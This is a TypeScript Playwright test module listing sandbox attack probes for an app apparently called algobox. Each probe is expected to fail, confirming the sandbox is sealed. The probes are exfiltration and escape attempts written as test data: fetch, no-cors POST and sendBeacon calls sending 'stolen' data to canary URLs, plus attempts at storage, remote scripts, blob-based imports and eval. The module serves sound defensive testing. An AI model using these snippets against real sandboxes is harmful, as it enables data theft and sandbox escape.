// The one list of probes the sandbox attack tests run, against third-party bundles (sandbox.spec.ts)
// and user BEAT blocks (blockSandbox.spec.ts) alike. Each probe is a `probe(name, f)` call for the
// PROBE prelude of sandboxChecks.ts (its outcome: "ok: …" if it worked, otherwise the error) and the
// expectation on that outcome. Network and code probes use `C` (the canary URLs) and `stolen` (a
// string of data the attacker read), which the attack code defines.
import { expect } from '@playwright/test';

export interface Probe {
  name: string;
  /** JavaScript run inside the sandbox: one `await probe(name, …);` */
  code: string;
  /** The outcome it must have (undefined: checked on the page instead, e.g. BroadcastChannel). */
  check?: (outcome: string, name: string) => void;
}

const probe = (name: string, body: string, check?: (outcome: string, name: string) => void): Probe => ({
  name,
  code: `await probe(${JSON.stringify(name)}, ${body});`,
  check,
});
const is = (expected: string) => (o: string, name: string) => expect(o, name).toBe(expected);
const matches = (re: RegExp) => (o: string, name: string) => expect(o, name).toMatch(re);

/** Storage and identity: nothing persistent is reachable, the origin is opaque, no window is in scope. */
export const STORAGE_PROBES: Probe[] = [
  probe(
    'indexedDB.open',
    '() => settle((ok, no) => { const q = indexedDB.open("algobox"); q.onsuccess = () => ok("opened " + q.result.objectStoreNames.length + " stores"); q.onerror = () => no(q.error); })',
    matches(/^SecurityError: .*denied in this context/),
  ),
  probe('indexedDB.databases', 'async () => JSON.stringify(await indexedDB.databases())', (o, name) => expect(o, name).not.toMatch(/^ok/)),
  probe(
    'caches',
    'async () => typeof caches === "undefined" ? Promise.reject(new Error("caches is undefined")) : (await caches.keys()).join(",")',
    is('Error: caches is undefined'),
  ),
  probe(
    'navigator.storage',
    'async () => { if (!navigator.storage) throw new Error("navigator.storage is undefined"); return (await navigator.storage.getDirectory()).name; }',
    is('Error: navigator.storage is undefined'),
  ),
  probe(
    'localStorage',
    '() => { if (typeof localStorage === "undefined") throw new Error("localStorage is undefined"); return localStorage.length; }',
    is('Error: localStorage is undefined'),
  ),
  probe(
    'sessionStorage',
    '() => { if (typeof sessionStorage === "undefined") throw new Error("sessionStorage is undefined"); return sessionStorage.length; }',
    is('Error: sessionStorage is undefined'),
  ),
  // Whether anyone heard it is checked on the page (nothing may arrive there).
  probe('BroadcastChannel', '() => { new BroadcastChannel("algobox").postMessage({ stolen: true }); return "posted"; }'),
  probe('origin', '() => { throw new Error(self.origin + " secure=" + self.isSecureContext); }', is('Error: null secure=false')),
  probe('parent', '() => typeof parent + "/" + typeof top + "/" + typeof window', is('ok: undefined/undefined/undefined')),
];

/** The network: neither the canary server (another port) nor the app's own origin is reachable. */
export const NETWORK_PROBES: Probe[] = [
  ...(['node', 'app'] as const).flatMap((k) => {
    const u = `C.${k}`;
    return [
      probe(`fetch ${k}`, `async () => (await fetch(${u} + "?d=" + stolen)).status`, is('TypeError: Failed to fetch')),
      probe(`fetch no-cors ${k}`, `async () => (await fetch(${u}, { mode: "no-cors", method: "POST", body: stolen })).type`, is('TypeError: Failed to fetch')),
      probe(
        `xhr ${k}`,
        `() => settle((ok, no) => { const q = new XMLHttpRequest(); q.open("GET", ${u}); q.onload = () => ok(q.status); q.onerror = () => no(new Error("xhr error event")); q.send(); })`,
        is('Error: xhr error event'),
      ),
      probe(
        `EventSource ${k}`,
        `() => settle((ok, no) => { const s = new EventSource(${u}); s.onopen = () => ok("open"); s.onerror = () => { s.close(); no(new Error("EventSource error event")); }; })`,
        is('Error: EventSource error event'),
      ),
      probe(`Worker ${k}`, `() => { new Worker(${u} + ".js"); return "started"; }`, matches(/^SecurityError: Failed to construct 'Worker'/)),
    ];
  }),
  probe(
    'WebSocket',
    '() => settle((ok, no) => { const s = new WebSocket(C.ws); s.onopen = () => ok("open"); s.onerror = () => no(new Error("WebSocket error event")); })',
    matches(/^(Error: WebSocket error event|SecurityError: .*)$/),
  ),
  probe(
    'sendBeacon',
    '() => { if (!navigator.sendBeacon) throw new Error("sendBeacon is undefined"); return navigator.sendBeacon(C.node, stolen); }',
    is('Error: sendBeacon is undefined'),
  ),
  probe(
    'RTCPeerConnection',
    '() => { if (typeof RTCPeerConnection === "undefined") throw new Error("RTCPeerConnection is undefined"); return "exists"; }',
    is('Error: RTCPeerConnection is undefined'),
  ),
];

/** Code from elsewhere: scripts and modules from the network, eval; `leaked` (set by the canary's script) last. */
export const CODE_PROBES: Probe[] = [
  ...(['node', 'app'] as const).map((k) =>
    probe(`importScripts ${k}`, `() => { importScripts(C.${k} + ".js"); return "loaded"; }`, matches(/^NetworkError: .*failed to load/)),
  ),
  // A classic script made here may call import(); the module it asks for is still blocked.
  probe(
    'import() from a blob script',
    'async () => { importScripts(URL.createObjectURL(new Blob(["self.__p = import(" + JSON.stringify(C.node + ".js") + ");"], { type: "text/javascript" }))); await self.__p; return "imported"; }',
    matches(/^TypeError: Failed to fetch dynamically imported module/),
  ),
  probe('Function', '() => new Function("return 1")()', matches(/^EvalError: /)),
  probe('leaked', '() => { if (self.leaked) return "yes"; throw new Error("no"); }', is('Error: no')),
];

/** The probes' code, one after another (inside the attack, after the PROBE prelude). */
export const probeCalls = (probes: readonly Probe[]): string => probes.map((p) => p.code).join('\n');

/** Every probe ran, and each outcome is what it must be. */
export function expectProbes(out: Record<string, string>, probes: readonly Probe[]): void {
  for (const p of probes) {
    expect(out[p.name], p.name).toBeDefined();
    p.check?.(out[p.name]!, p.name);
  }
}
